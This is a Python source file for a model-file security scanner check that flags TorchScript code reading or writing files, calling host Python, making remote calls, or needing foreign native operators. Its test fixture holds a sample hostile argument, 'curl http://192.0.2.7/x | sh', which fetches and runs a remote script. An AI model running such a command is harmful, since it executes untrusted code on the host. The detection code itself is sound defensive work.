"""TorchScript code that reaches beyond tensors."""

from __future__ import annotations

from collections.abc import Iterator

from toadstone.core.check import Check, check
from toadstone.core.fact import Fact, Operator
from toadstone.core.finding import Finding, Severity
from toadstone.core.place import Place
from toadstone.symbols.arguments import Look, looks_of

_FILES = frozenset({"from_file", "save", "load", "_save_for_mobile", "save_to_file"})
_REMOTE = frozenset({"rpc_sync", "rpc_async", "rpc_remote"})
_STANDARD = frozenset(
    {
        "rpc",
        "aten",
        "prim",
        "prims",
        "quantized",
        "quantized_decomposed",
        "_quantized",
        "torchvision",
        "torchaudio",
        "torchtext",
        "profiler",
        "mkldnn",
        "mkldnn_prepacked",
        "onednn",
        "xnnpack",
        "prepacked",
        "sparse",
        "rnn",
        "image",
        "c10d",
        "c10d_functional",
        "_c10d_functional",
        "_c10d_functional_autograd",
        "higher_order",
        "inductor",
        "_inductor_test",
        "rngprims",
        "export",
    }
)


@check(
    "torchscript-operator",
    severity=Severity.HIGH,
    reads=Operator,
    references=("CWE-829", "MITRE ATLAS 2026.08 AML.T0018.002", "OWASP LLM 2026 LLM04"),
)
class TorchscriptOperator(Check):
    """TorchScript code reads or writes files, or needs a native operator library.

    ## Why it matters

    ``torch.jit.load`` never unpickles arbitrary classes, but its code runs on inference, and some operators reach files:
    ``torch.from_file`` maps a path into a tensor and, with ``shared=True``, writes it back; ``torch.save`` writes one.

    ## How it decides

    Every call in the archive's ``code/`` folder is read from its syntax tree. Calls of file operators, of ``prim.PythonOp``
    (a Python function of the host) and of remote procedure calls are high; operators of a namespace that neither PyTorch nor
    its domain libraries define are medium, since they need foreign native code, and high when they are given a command,
    code, an address or a path.

    ## What it misses

    What a foreign operator does once its library is loaded.

    ## Remedy

    Ask for the model as plain weights, or remove the operator and export again.

    ## References

    - https://pytorch.org/docs/stable/generated/torch.from_file.html
    """

    allow: frozenset[str] = frozenset()
    """Operator namespaces that this project uses and has reviewed."""

    def examine(self, fact: Operator) -> Iterator[Finding]:
        """Judge one operator of TorchScript code."""
        if not fact.domain.startswith("torchscript:"):
            return
        domain = fact.domain.removeprefix("torchscript:")
        deed = _deed(domain, fact.name)
        if deed:
            message = f"TorchScript code calls {fact.node}, which {deed} when the model runs."
            yield self.finding(fact.place, message, key=fact.node, symbol=fact.node)
        elif domain.startswith("ops.") and domain.split(".")[1] not in _STANDARD | self.allow:
            looks = looks_of([value for _, value in fact.arguments])
            given = [look.value for look in Look if look in looks and look is not Look.ENCODED]
            yield self.finding(
                fact.place,
                f"TorchScript code calls {fact.node}, an operator that needs a native library of its own"
                + (f", with {' and '.join(given)}." if given else "."),
                severity=Severity.HIGH if given else Severity.MEDIUM,
                key=fact.node,
                symbol=fact.node,
            )

    @classmethod
    def bad(cls) -> Iterator[Fact]:
        """Give an operator that maps files, one that calls Python, a remote call, and a foreign one."""
        place = Place("model.pt", "model/code/__torch__.py")
        yield Operator(place, "torchscript:ops.prim", "PythonOp", "ops.prim.PythonOp")
        yield Operator(place, "torchscript:ops.acme", "exec", "ops.acme.exec", (("0", "curl http://192.0.2.7/x | sh"),))
        yield Operator(place, "torchscript:ops.rpc", "rpc_sync", "ops.rpc.rpc_sync")
        yield Operator(Place("model.pt", "model/code/__torch__.py"), "torchscript:torch", "from_file", "torch.from_file")
        yield Operator(Place("model.pt", "model/code/__torch__.py"), "torchscript:ops.acme", "run", "ops.acme.run")

    @classmethod
    def good(cls) -> Iterator[Fact]:
        """Give ordinary operators."""
        yield Operator(Place("model.pt", "model/code/__torch__.py"), "torchscript:torch", "add", "torch.add")
        yield Operator(Place("model.pt", "model/code/__torch__.py"), "torchscript:ops.prim", "data", "ops.prim.data")
        yield Operator(Place("model.onnx"), "ai.onnx.ml", "TreeEnsembleClassifier", "tree")


def _deed(domain: str, name: str) -> str:
    """Say what a built-in operator does beyond computing; empty for those that only compute."""
    if domain in {"torch", "ops.aten"} and name in _FILES:
        return "reaches files"
    if domain == "ops.prim" and name == "PythonOp":
        return "calls a Python function of the host"
    return "runs functions in other processes" if domain == "ops.rpc" and name in _REMOTE else ""
